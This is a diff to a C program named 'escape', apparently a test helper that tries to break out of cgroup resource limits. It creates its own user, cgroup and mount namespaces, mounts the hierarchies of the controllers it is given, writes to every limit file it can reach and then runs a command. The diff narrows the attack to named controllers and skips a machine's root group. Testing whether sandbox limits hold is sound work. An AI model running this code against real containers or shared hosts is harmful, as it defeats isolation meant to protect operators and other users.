@@ -1,10 +1,13 @@
 /*
- * escape [-n] COMMAND [ARG...]: a hostile program with user number 0. Makes user, cgroup and mount
- * namespaces of its own, mounts every cgroup hierarchy it can there, lifts every limit in every group
- * it finds, moves itself into groups of its own making, and executes COMMAND, which then uses what no
- * limit forbids any more. -n: without a new user namespace, with the privileges it has.
+ * escape [-n] CONTROLLERS COMMAND [ARG...]: a hostile program with user number 0. Makes user, cgroup
+ * and mount namespaces of its own, mounts the hierarchies of CONTROLLERS ("memory,pids") there, lifts
+ * every limit in every group it finds, moves itself into groups of its own making, and executes
+ * COMMAND, which then uses what no limit forbids any more. -n: without a new user namespace, with the
+ * privileges it has.
  *
  * One line "escape: mounted N, wrote N" goes to stderr, so that a test sees that it could try at all.
+ * It attacks what a run is limited by, and nothing else: a hierarchy that is not among CONTROLLERS, and
+ * the root group of a machine, where only the machine itself could come to harm, it leaves alone.
  */
 #include <errno.h>
 #include <fcntl.h>
@@ -61,14 +64,28 @@ static void lift_limits(const char *dir)
     }
 }
 
+/* Only the root group of a whole hierarchy has the one file or lacks the other. */
+static int is_a_groups_own(const char *dir)
+{
+    char v1_root[512], v1_any[512], v2_below[512];
+
+    snprintf(v1_root, sizeof(v1_root), "%s/release_agent", dir);
+    snprintf(v1_any, sizeof(v1_any), "%s/tasks", dir);
+    snprintf(v2_below, sizeof(v2_below), "%s/cgroup.type", dir);
+    return access(v2_below, F_OK) == 0 || (access(v1_any, F_OK) == 0 && access(v1_root, F_OK) < 0);
+}
+
 /* A hierarchy at DIR: its root, what the root's parent would be, and a new group to go into. */
 static void attack(const char *dir)
 {
     char path[512];
 
+    if (!is_a_groups_own(dir))
+        return;
     lift_limits(dir);
-    snprintf(path, sizeof(path), "%s/..", dir);
-    lift_limits(path);
+    snprintf(path, sizeof(path), "%s/../..", dir);
+    if (is_a_groups_own(path))
+        lift_limits(path);
     snprintf(path, sizeof(path), "%s/ration-free", dir);
     if (mkdir(path, 0755) < 0)
         return;
@@ -91,6 +108,20 @@ static void mount_and_attack(const char *type, const char *options, const char *
     attack(dir);
 }
 
+/* A controller's hierarchy of version 1, alone or as it is usually joined with another. */
+static void attack_controller(const char *name)
+{
+    static const char *const joined[] = { "cpu,cpuacct", "net_cls,net_prio" };
+    char dir[256];
+
+    snprintf(dir, sizeof(dir), "/sys/fs/cgroup/%s", name);
+    attack(dir);
+    mount_and_attack("cgroup", name, name);
+    for (size_t i = 0; i < sizeof(joined) / sizeof(joined[0]); i++)
+        if (strncmp(joined[i], name, strlen(name)) == 0)
+            mount_and_attack("cgroup", joined[i], joined[i]);
+}
+
 static void become_root_of_own(void)
 {
     char map[64];
@@ -109,13 +140,11 @@ static void become_root_of_own(void)
 
 int main(int argc, char **argv)
 {
-    static const char *const controllers[] = { "memory",  "pids",        "cpu",     "cpuset",
-                                               "devices", "cpu,cpuacct", "freezer", "blkio" };
     int privileged = argc > 1 && strcmp(argv[1], "-n") == 0;
 
     argv += 1 + privileged;
-    if (!argv[0]) {
-        fputs("escape [-n] COMMAND [ARG...]\n", stderr);
+    if (!argv[0] || !argv[1]) {
+        fputs("escape [-n] CONTROLLERS COMMAND [ARG...]\n", stderr);
         return 2;
     }
     if (!privileged)
@@ -124,19 +153,17 @@ int main(int argc, char **argv)
         fprintf(stderr, "escape: no mount namespace: %s\n", strerror(errno));
     else
         mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
-    /* What is mounted already is tried before and after it is hidden behind a namespace of our own. */
-    attack("/sys/fs/cgroup");
-    attack("/sys/fs/cgroup/memory");
     if (unshare(CLONE_NEWCGROUP) < 0)
         fprintf(stderr, "escape: no cgroup namespace: %s\n", strerror(errno));
     if (mount("none", "/tmp", "tmpfs", 0, NULL) < 0)
         fprintf(stderr, "escape: no tmpfs: %s\n", strerror(errno));
+    attack("/sys/fs/cgroup");
     mount_and_attack("cgroup2", NULL, "unified");
-    for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++)
-        mount_and_attack("cgroup", controllers[i], controllers[i]);
+    for (char *name = strtok(argv[0], ","); name; name = strtok(NULL, ","))
+        attack_controller(name);
     fprintf(stderr, "escape: mounted %d, wrote %d\n", mounted, wrote);
     umount2("/tmp", MNT_DETACH);
-    execvp(argv[0], argv);
-    fprintf(stderr, "escape: %s: %s\n", argv[0], strerror(errno));
+    execvp(argv[1], argv + 1);
+    fprintf(stderr, "escape: %s: %s\n", argv[1], strerror(errno));
     return 3;
 }
